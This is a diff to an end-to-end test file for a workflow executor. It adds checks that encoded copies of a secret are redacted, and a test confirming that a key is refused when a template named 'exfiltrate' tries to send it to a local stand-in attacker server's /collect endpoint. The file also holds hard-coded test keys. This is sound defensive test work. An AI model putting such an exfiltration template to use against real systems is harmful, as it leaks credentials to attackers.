@@ -1,8 +1,10 @@
+import { createServer, type Server } from 'node:net';
 import { ExecutorHarness, metricValue, type RunningExecutor } from './support/executor-harness';
 import { json, startHttpStub, type HttpStub, type StubRequest } from './support/http-stub';
 import { apiCallTemplate, PAYMENT_INPUT, paymentGatewayTemplate } from './support/templates';
 
 const API_KEY = 'sk_live_7Hq2Xr9PaymentSecret';
+const PAYMENT_API_KEY = 'pk_live_9Zt4Payments+Only/Here';
 
 describe('executor runs the seed payment_gateway_template end to end (real Redis, real HTTP, child process)', () => {
   let harness: ExecutorHarness;
@@ -15,14 +17,28 @@ describe('executor runs the seed payment_gateway_template end to end (real Redis
     if (request.headers['authorization'] !== `Bearer ${API_KEY}`) return json(401, { error: 'bad token' })(request, response);
     const body = JSON.parse(request.body) as { amount: number };
     if (body.amount > 1000) return json(400, { error: 'limit exceeded', echo: request.headers['authorization'] })(request, response);
-    json(200, { transactionId: `tx-${request.headers['idempotency-key']}`, status: 'approved', echo: request.headers['authorization'] })(request, response);
+    // Echoed encoded too (base64, URL-encoded, upper case), as some APIs do in their diagnostics.
+    json(200, {
+      transactionId: `tx-${request.headers['idempotency-key']}`,
+      status: 'approved',
+      echo: request.headers['authorization'],
+      echoEncoded: [Buffer.from(API_KEY).toString('base64'), Buffer.from(API_KEY).toString('base64url'), encodeURIComponent(API_KEY), API_KEY.toUpperCase()],
+    })(request, response);
   };
 
   beforeAll(async () => {
     harness = new ExecutorHarness('payment');
     api = await startHttpStub([paymentApi]);
     // The secret comes from a mounted Secret directory, as in a pod.
-    executor = await harness.startExecutor({ SECRETS_DIR: harness.secretsDir({ API_KEY: `${API_KEY}\n` }), EGRESS_ALLOW: '127.0.0.1' });
+    // The pool binds API_KEY to the (loopback) payment API and PAYMENT_API_KEY to payments.example.com only.
+    executor = await harness.startExecutor({
+      SECRETS_DIR: harness.secretsDir({ API_KEY: `${API_KEY}\n`, PAYMENT_API_KEY }),
+      SECRET_BINDINGS: JSON.stringify([
+        { name: 'API_KEY', allowedHosts: ['127.0.0.1'] },
+        { name: 'PAYMENT_API_KEY', allowedHosts: ['payments.example.com'] },
+      ]),
+      EGRESS_ALLOW: '127.0.0.1',
+    });
   });
 
   afterAll(async () => {
@@ -38,8 +54,9 @@ describe('executor runs the seed payment_gateway_template end to end (real Redis
     expect(call.method).toBe('POST');
     expect(call.path).toBe('/process');
     expect(JSON.parse(call.body)).toEqual(PAYMENT_INPUT);
-    // The echoed secret is blanked before the output reaches Redis.
+    // The echoed secret is blanked before the output reaches Redis, in its encoded forms too.
     expect((result.output as { echo: string }).echo).toBe('Bearer [REDACTED]');
+    expect((result.output as { echoEncoded: string[] }).echoEncoded).toEqual(['[REDACTED]', '[REDACTED]', '[REDACTED]', '[REDACTED]']);
     expect((await harness.results(id)).map((r) => r.outcome)).toEqual(['started', 'succeeded']);
   });
 
@@ -108,5 +125,36 @@ describe('executor runs the seed payment_gateway_template end to end (real Redis
     expect(metricValue(metrics, 'base_shift_executor_concurrency_limit')).toBe(10);
     expect(metrics).toContain('# TYPE base_shift_executor_lease_renew_failures_total counter');
     expect(metrics).not.toMatch(/wf-\d+-[0-9a-f]{8}/);
+  });
+
+  it('refuses to send a secret to a host outside its binding, even from a snapshot written straight into Redis, before any connection', async () => {
+    // The attacker's server: counts TCP connections, answers none.
+    let connections = 0;
+    const attacker: Server = createServer((socket) => {
+      connections += 1;
+      socket.destroy();
+    });
+    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
+    const port = (attacker.address() as import('node:net').AddressInfo).port;
+    try {
+      // What template validation refuses at publish, pinned into the workflow's snapshots by hand. 127.0.0.1 is
+      // reachable (EGRESS_ALLOW): only the binding stands between the key and the attacker.
+      const template = apiCallTemplate('exfiltrate', {
+        api_endpoint: `http://127.0.0.1:${port}/collect`,
+        method: 'POST',
+        headers: { Authorization: 'Bearer ${PAYMENT_API_KEY}' },
+      });
+      const result = await harness.waitForResult(await harness.enqueue({ template, input: { orderId: 'o-1' } }));
+      expect(result.outcome).toBe('failed');
+      expect(result.error).toMatchObject({
+        retryable: false,
+        details: { code: 'EXECUTOR.SECRET_DESTINATION_REFUSED', details: { secret: 'PAYMENT_API_KEY', host: '127.0.0.1' } },
+      });
+      expect(result.error?.message).toContain('secret PAYMENT_API_KEY may not be sent to 127.0.0.1 (its binding allows payments.example.com)');
+      expect(connections).toBe(0);
+      expect(JSON.stringify(result)).not.toContain(PAYMENT_API_KEY);
+    } finally {
+      await new Promise<void>((resolve) => attacker.close(() => resolve()));
+    }
   });
 });
